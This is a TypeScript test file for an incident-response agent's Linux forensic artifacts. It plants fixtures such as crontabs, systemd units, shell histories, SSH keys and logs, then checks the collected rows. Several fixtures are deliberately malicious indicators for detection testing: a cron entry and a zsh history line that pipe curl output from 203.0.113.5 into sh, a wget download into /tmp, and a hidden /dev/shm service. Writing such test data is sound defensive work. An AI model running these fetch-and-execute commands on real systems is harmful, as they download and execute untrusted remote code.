// The built-in Linux and Generic CLIENT artifacts of the responder's catalogue, collected as a
// flow collects them (compiled, precondition first) by the agent's VQL runner on this Linux
// machine. Each source's columns are checked against the list the artifact promises, and its
// rows against fixtures written here or against what the test reads itself from /proc and /etc.
// All collections start together in beforeAll so the file takes as long as the slowest one.
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { compileArtifact, loadArtifact, resolveParameters, type Artifact } from "@/engine/artifacts";
import { MemoryOutbox } from "@/engine/client/connection/outbox";
import { createVqlRunner } from "@/engine/client/executor/vql-runner";
import { createLinuxSystem } from "@/engine/endpoint/builtins/linux";
import { FlowResponder } from "@/engine/client/responder/responder";
import { BUILTIN_DEFINITIONS_DIR, readArtifactFiles } from "@/engine/server/services/artifacts/files";
import { CATALOGUE, type Fixture } from "./catalogue.cases";

type Row = Record<string, unknown>;
interface Collected {
  precondition: boolean;
  sources: Map<string, Row[]>;
  errors: string[];
}

const dir = mkdtempSync(join(tmpdir(), "talon-catalogue-"));
const artifacts = new Map<string, Artifact>();
const results = new Map<string, Collected>();
const children: ChildProcess[] = [];
let server: Server;
const fx: Fixture = { dir, port: 0, pids: {} };

/** Collects every source of `name` with `parameters`, each given its implied permissions. */
async function collect(name: string, parameters: Record<string, string>): Promise<Collected> {
  const a = artifacts.get(name);
  if (!a) throw new Error(`${name} is not a built-in artifact`);
  const env = resolveParameters(a, parameters);
  if (!env.ok) throw new Error(`${name}: ${env.error}`);
  const runner = createVqlRunner(createLinuxSystem());
  const out: Collected = { precondition: true, sources: new Map(), errors: [] };
  for (const s of compileArtifact(a, (n) => artifacts.get(n)).sources) {
    const ctx = { flowId: "F.CATALOGUE", artifact: name, env: env.env, signal: AbortSignal.timeout(20_000), maxRows: 100_000, permissions: new Set(a.impliedPermissions), responder: new FlowResponder(new MemoryOutbox(), "F.CATALOGUE") };
    if (s.precondition && !(await runner.precondition(s.precondition, ctx))) out.precondition = false;
    const rows: Row[] = [];
    for await (const e of runner.run(s.query, ctx)) {
      if (e.kind === "row") rows.push(e.row);
      else if (e.kind === "log" && e.level === "ERROR") out.errors.push(e.message);
    }
    out.sources.set(s.name ?? "", rows);
  }
  return out;
}

function write(path: string, text: string, mode?: number) {
  mkdirSync(join(path, ".."), { recursive: true });
  writeFileSync(path, text);
  if (mode !== undefined) chmodSync(path, mode);
}

/** Fixture files for the artifacts whose data this machine may not have. */
function writeFixtures() {
  const f = (p: string) => join(dir, p);
  write(f("proc/modules"), "nf_tables 356352 2 nft_chain_nat,nft_compat, Live 0xffffffffc0a00000\nxt_tcpudp 16384 0 - Live 0x0000000000000000\n");
  write(f("proc/arp"), "IP address       HW type     Flags       HW address            Mask     Device\n10.0.0.1         0x1         0x2         52:54:00:12:34:56     *        eth0\n10.0.0.7         0x1         0x0         00:00:00:00:00:00     *        eth1\n");
  write(f("etc/hosts"), "# static names\n127.0.0.1 localhost\n10.9.8.7\tupdates.example.com mirror # planted\n::1 ip6-localhost ip6-loopback\n");
  write(f("etc/crontab"), "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot www-data /opt/x/start.sh\n");
  write(f("var/spool/cron/crontabs/alice"), "# edit with crontab -e\n*/5 * * * * curl -s http://203.0.113.5/p | sh\n");
  write(f("etc/cron.daily/backup"), "#!/bin/sh\ntar czf /backup/etc.tgz /etc\n", 0o755);
  write(f("units/evil.service"), "[Unit]\nDescription=Totally normal\n\n[Service]\nType=simple\nUser=nobody\nExecStart=/dev/shm/.x -d\n\n[Install]\nWantedBy=multi-user.target\n");
  write(f("units/plain.service"), "[Unit]\nDescription=Plain one\n[Service]\nExecStart=/usr/bin/true\n");
  symlinkSync("/dev/null", f("units/masked.service"));
  write(f("units/evil.timer"), "[Unit]\nDescription=Run evil\n[Timer]\nOnCalendar=*-*-* *:00/10:00\nPersistent=true\n[Install]\nWantedBy=timers.target\n");
  write(f("units/other.timer"), "[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=plain.service\n");
  mkdirSync(f("units/multi-user.target.wants"), { recursive: true });
  symlinkSync(f("units/evil.service"), f("units/multi-user.target.wants/evil.service"));
  mkdirSync(f("units/timers.target.wants"), { recursive: true });
  symlinkSync(f("units/evil.timer"), f("units/timers.target.wants/evil.timer"));
  write(
    f("dpkg/status"),
    "Package: tiny\nStatus: install ok installed\nInstalled-Size: 10\nArchitecture: amd64\nVersion: 1.2-3\nDescription: a tiny thing\n It is small.\n .\n Really.\n\n" +
      "Package: gone\nStatus: deinstall ok config-files\nArchitecture: all\nSource: gone-src\nVersion: 0.9\nDescription: removed\n",
  );
  write(f("suid/setuid"), "x", 0o4755);
  chmodSync(f("suid/setuid"), 0o4755);
  write(f("suid/setgid"), "x");
  chmodSync(f("suid/setgid"), 0o2755);
  write(f("suid/plain"), "x", 0o755);
  write(f("home/.ssh/authorized_keys"), '# keys\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE1 alice@laptop\ncommand="/bin/backup",from="10.0.0.1" ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB backup key\n\nnot-a-key junk\n');
  write(f("home/.ssh/known_hosts"), "github.com ssh-ed25519 AAAAKNOWN1\n# old\n|1|c2FsdA==|aGFzaA== ecdsa-sha2-nistp256 AAAAKNOWN2\n");
  write(f("ssh/ssh_host_ed25519_key.pub"), "ssh-ed25519 AAAAHOSTKEY root@builder\n");
  write(f("home/.bash_history"), "ls -la\nwget http://203.0.113.5/x -O /tmp/x\nsudo -l\n");
  write(f("home/.zsh_history"), "curl http://203.0.113.5/y | sh\n");
  write(f("log/app.log"), "ok start\nGET /malware.php 200\nGET /index.html 200\nGET /malware.php 404 healthcheck\n");
  write(f("log/auth.log"), "Dec  1 09:00:01 web sshd[812]: Accepted publickey for alice from 10.1.2.3 port 52211 ssh2: ED25519 SHA256:abc\n2026-12-01T09:05:00.123456+00:00 web sshd[813]: Failed password for invalid user admin from 203.0.113.9 port 4444 ssh2\n2026-12-01T09:06:00+00:00 web CRON[900]: pam_unix(cron:session): session opened for user root\n");
  write(f("sudoers/sudoers"), "Defaults env_reset\n# root can\nroot ALL=(ALL:ALL) ALL\nbackup web01 = (root) NOPASSWD: /usr/bin/rsync, \\\n  /usr/bin/tar\nCmnd_Alias SHUT = /sbin/shutdown\n@includedir /etc/sudoers.d\n");
  write(f("tmpx/dropper.sh"), "#!/bin/sh\necho hi\n", 0o755);
  copyFileSync("/bin/true", f("tmpx/payload"));
  chmodSync(f("tmpx/payload"), 0o644);
  write(f("tmpx/notes.txt"), "nothing\n");
  write(f("anomalous/.hidden"), "h");
  write(f("anomalous/big.bin"), "0123456789ABCDEF");
  write(f("anomalous/normal.txt"), "n");
  write(f("apt/extra.list"), "# main\ndeb [arch=amd64 signed-by=/usr/share/keyrings/x.gpg] https://repo.example.com/apt stable main contrib\n# deb http://old.example/ x y\ndeb [trusted=yes] http://203.0.113.7/repo ./\n");
  write(f("apt/debian.sources"), "Types: deb\n# a comment inside\nURIs: http://deb.debian.org/debian\nSuites: bookworm bookworm-updates\nComponents: main\nSigned-By: /usr/share/keyrings/debian-archive-keyring.gpg\n\nTypes: deb-src\nURIs: http://deb.debian.org/debian\nSuites: bookworm\nComponents: main\nEnabled: no\n");
  write(f("etc/group-root"), "root:x:0:daemon\nadm:x:4:syslog\n");
  write(f("release/os-release"), 'PRETTY_NAME="Test Linux 7 (lynx)"\nNAME="Test Linux"\nVERSION_ID="7"\nID=testlinux\nID_LIKE="debian ubuntu"\nVERSION_CODENAME=lynx\n');
  // wtmp in its binary form, made by utmpdump from its text form.
  const wtmp = "[2] [00000] [~~  ] [reboot  ] [~           ] [6.1.0               ] [0.0.0.0        ] [2026-12-01T08:00:00,000000+00:00]\n[7] [01234] [ts/0] [alice   ] [pts/0       ] [10.1.2.3            ] [10.1.2.3       ] [2026-12-01T09:00:00,000000+00:00]\n[8] [01234] [ts/0] [        ] [pts/0       ] [                    ] [0.0.0.0        ] [2026-12-01T10:30:00,000000+00:00]\n[7] [02222] [ts/1] [bob     ] [pts/1       ] [host.example        ] [192.0.2.44     ] [2026-12-01T11:00:00,000000+00:00]\n";
  const made = spawnSync("utmpdump", ["-r", "-o", f("wtmp")], { input: wtmp });
  if (made.status !== 0) throw new Error(`utmpdump -r failed: ${made.stderr}`);
  // A package manager that prints what dnf prints (a long name wraps onto the next line).
  write(f("bin/dnf"), '#!/bin/sh\nprintf "Installed Packages\\nbash.x86_64                 5.1.8-9.el9          @baseos\\na-very-long-package-name-that-wraps.noarch\\n                            1.0-1.el9            @appstream\\n"\n', 0o755);
  const keys = f("keys");
  mkdirSync(keys);
  for (const [file, pass] of [["id_ed25519", ""], ["locked.pem", "secret"]] as const) {
    const r = spawnSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", pass, "-f", join(keys, file)]);
    if (r.status !== 0) throw new Error(`ssh-keygen failed: ${r.stderr}`);
  }
}

/** Processes the process artifacts look for: one with a marked environment under sh, one running a deleted copy of sleep. */
function startProcesses() {
  const marked = spawn("sh", ["-c", "sleep 60; true"], { env: { ...process.env, TALON_CATALOGUE_MARK: "marked-value" }, stdio: "ignore" });
  children.push(marked);
  fx.pids.marked = marked.pid!;
  const copy = join(dir, "talon-deleted-sleep");
  copyFileSync("/bin/sleep", copy);
  chmodSync(copy, 0o755);
  const deleted = spawn(copy, ["60"], { stdio: "ignore" });
  children.push(deleted);
  fx.pids.deleted = deleted.pid!;
  return copy;
}

beforeAll(async () => {
  for (const f of await readArtifactFiles([BUILTIN_DEFINITIONS_DIR])) {
    const a = loadArtifact(f.text).artifact;
    if (a) artifacts.set(a.name, a);
  }
  writeFixtures();
  const copy = startProcesses();
  server = createServer().listen(0, "127.0.0.1");
  await new Promise((r) => server.once("listening", r));
  fx.port = (server.address() as { port: number }).port;
  // Wait until both run (sh has started its sleep); the copy can then be deleted: it stays mapped.
  const ppidOf = (pid: string) => {
    try {
      return readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1]?.split(" ")[1];
    } catch {
      return undefined;
    }
  };
  const running = () => {
    try {
      return readlinkSync(`/proc/${fx.pids.deleted}/exe`) === copy && readdirSync("/proc").some((p) => /^\d+$/.test(p) && ppidOf(p) === String(fx.pids.marked));
    } catch {
      return false;
    }
  };
  for (const end = Date.now() + 5000; !running(); await new Promise((r) => setTimeout(r, 20))) {
    if (Date.now() > end) throw new Error("the test's processes did not start");
  }
  unlinkSync(copy);
  const oldPath = process.env.PATH;
  process.env.PATH = `${join(dir, "bin")}:${oldPath}`;
  try {
    await Promise.all(CATALOGUE.map(async (c) => results.set(c.name, await collect(c.name, c.parameters?.(fx) ?? {}))));
  } finally {
    process.env.PATH = oldPath;
  }
}, 60_000);

afterAll(() => {
  for (const c of children) c.kill("SIGKILL");
  server?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe("the built-in catalogue", () => {
  it("has every artifact listed here as a CLIENT artifact", () => {
    for (const c of CATALOGUE) expect(artifacts.get(c.name)?.type, c.name).toBe("CLIENT");
  });

  it.each(CATALOGUE.map((c) => [c.name, c] as const))("%s runs on this Linux machine, returns the promised columns and the rows expected", (name, c) => {
    const r = results.get(name)!;
    expect(r.precondition, "precondition").toBe(true);
    expect(r.errors.filter((e) => !(c.allowedErrors ?? []).some((re) => re.test(e)))).toEqual([]);
    expect([...r.sources.keys()].sort()).toEqual(Object.keys(c.columns).sort());
    for (const [source, columns] of Object.entries(c.columns)) {
      const rows = r.sources.get(source)!;
      expect(rows.length, `${name}/${source} rows`).toBeGreaterThan(0);
      for (const row of rows) expect(Object.keys(row), `${name}/${source} columns`).toEqual(columns);
    }
    c.check(r.sources, fx);
  });
});
